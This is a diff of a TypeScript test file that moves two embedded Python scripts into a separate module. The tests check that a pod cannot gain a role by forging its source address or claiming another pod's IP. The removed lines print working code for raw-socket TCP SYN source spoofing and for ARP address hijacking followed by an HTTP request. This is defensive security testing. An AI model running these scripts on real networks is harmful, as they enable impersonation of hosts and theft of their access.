@@ -7,6 +7,7 @@ import { type CommandResult, runCommand, succeed } from '../../cluster/run-comma
 import { askingPodSpec } from '../../setup/agent/agent-pods.ts';
 import { AGENT_PORT, runInPod } from '../../setup/agent/asking-pods.ts';
 import { NAMESPACE, startChurnSite } from '../../setup/agent/churn-site.ts';
+import { FORGE, STEAL } from '../../setup/agent/stranger-scripts.ts';
 import { createPod, podsIn, readPod, type StoredPod } from '../../setup/pods/pods.ts';
 import type { RunningPod } from '../../setup/pods/running-pods.ts';
 
@@ -95,31 +96,6 @@ test('another host gets nothing, neither from the port nor from the metadata add
   for (const host of METADATA) assert.doesNotMatch(await ask(onAnotherHost, host), /churn-role/);
 });
 
-/** Sends one SYN with a source that is not its own; prints the number of answers that it saw. */
-const FORGE = `
-import socket, struct, sys, time
-source, target, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
-def checksum(data):
-    total = sum(struct.unpack('!%dH' % (len(data) // 2), data))
-    total = (total >> 16) + (total & 0xffff)
-    return ~(total + (total >> 16)) & 0xffff
-pack = lambda check: struct.pack('!HHLLBBHHH', 45678, port, 1, 0, 5 << 4, 2, 65535, check, 0)
-ends = socket.inet_aton(source) + socket.inet_aton(target)
-segment = pack(checksum(ends + struct.pack('!BBH', 0, 6, 20) + pack(0)))
-header = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 40, 1, 0, 64, 6, 0, ends[:4], ends[4:])
-raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
-answers = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
-answers.settimeout(0.2)
-for _ in range(3):
-    raw.sendto(header + segment, (target, 0))
-seen, end = 0, time.monotonic() + 1
-while time.monotonic() < end:
-    try:
-        if answers.recv(65535)[22:24] == struct.pack('!H', 45678): seen += 1
-    except TimeoutError: pass
-print(seen)
-`;
-
 test('a forged source brings nothing to its sender', async (t) => {
   const forge = (target: string, port: number) => ['python3', '-c', FORGE, address, target, String(port)];
   const thief = await start('none-0', undefined);
@@ -134,33 +110,6 @@ test('a forged source brings nothing to its sender', async (t) => {
     }
   }
 });
-
-/**
- * Says by ARP that an address is here, as a pod with CAP_NET_RAW can, and asks from it at once; prints the
- * answer.
- */
-const STEAL = `
-import http.client, socket, struct, sys
-source, target, path = sys.argv[1:]
-mac = open('/sys/class/net/eth0/address').read().strip()
-def announce(operation):
-    own = bytes.fromhex(mac.replace(':', ''))
-    link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
-    link.bind(('eth0', 0))
-    arp = struct.pack('!HHBBH', 1, 0x0800, 6, 4, operation) + own + socket.inet_aton(source) + b'\\xff' * 6 + socket.inet_aton(source)
-    link.send(b'\\xff' * 6 + own + struct.pack('!H', 0x0806) + arp)
-for _ in range(10):
-    announce(1)
-    announce(2)
-    connection = http.client.HTTPConnection(target, timeout=0.5, source_address=(source, 0))
-    try:
-        connection.request('GET', path)
-        connection.sock.settimeout(5)
-        answer = connection.getresponse()
-        print(answer.status, answer.read().decode())
-    except OSError as thrown:
-        print('nothing', thrown)
-`;
 
 test('a pod that takes the address of another one does not get its role', async (t) => {
   const thief = await start('none-1', undefined);
